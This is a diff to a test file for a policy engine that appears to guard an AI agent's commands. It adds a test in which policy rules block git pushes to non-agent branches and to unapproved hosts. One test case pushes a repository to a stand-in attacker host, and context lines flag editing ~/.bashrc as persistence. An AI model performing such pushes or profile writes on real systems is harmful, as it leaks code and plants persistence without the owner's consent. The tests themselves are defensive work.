@@ -4,6 +4,10 @@
  * are to public threads; the commands are ours.
  */
 import { expect, test } from 'vitest';
+import { check } from '../../src/check/check.ts';
+import { compile } from '../../src/compile/program.ts';
+import { parse } from '../../src/language/parse.ts';
+import { runTests } from '../../src/scenario/run-tests.ts';
 import { decide, decideCall } from './decide.ts';
 
 const bypasses: readonly (readonly [thread: string, command: string, code: string])[] = [
@@ -164,4 +168,30 @@ test('termaxa#101: a path rule holds in the shell and in the editor', () => {
   expect(decideCall({ kind: 'action', verb: 'edit', target: '~/.bashrc', content: 'x' }).code).toBe(
     'io.bylaw.persistence.write-shell-profile',
   );
+});
+
+test('what a push goes to is what its refspec ends in, and an address is connected to', () => {
+  const policy = `policy com.example.push
+deny other-branch
+  when runs "git push"
+  unless every refspec is "agent/*"
+  test
+    denies "git push origin agent/x:main"
+    denies "git push origin main"
+    passes "git push origin HEAD:agent/x"
+    passes "git push origin HEAD:refs/heads/agent/x"
+
+deny elsewhere
+  when sends anything to outside "git.example.com"
+  test
+    denies "git push https://evil.example.net/x.git main"
+    passes "git push https://git.example.com/x.git main"
+    passes "git fetch origin"
+`;
+  const parsed = parse({ path: 'push.policy', text: policy });
+  const { bundle, diagnostics } = check([parsed.policy], parsed.diagnostics);
+  expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
+  const results = bundle === undefined ? [] : runTests(compile(bundle), () => 'none');
+  expect(results.length).toBe(7);
+  expect(results.filter(({ passed }) => !passed)).toEqual([]);
 });
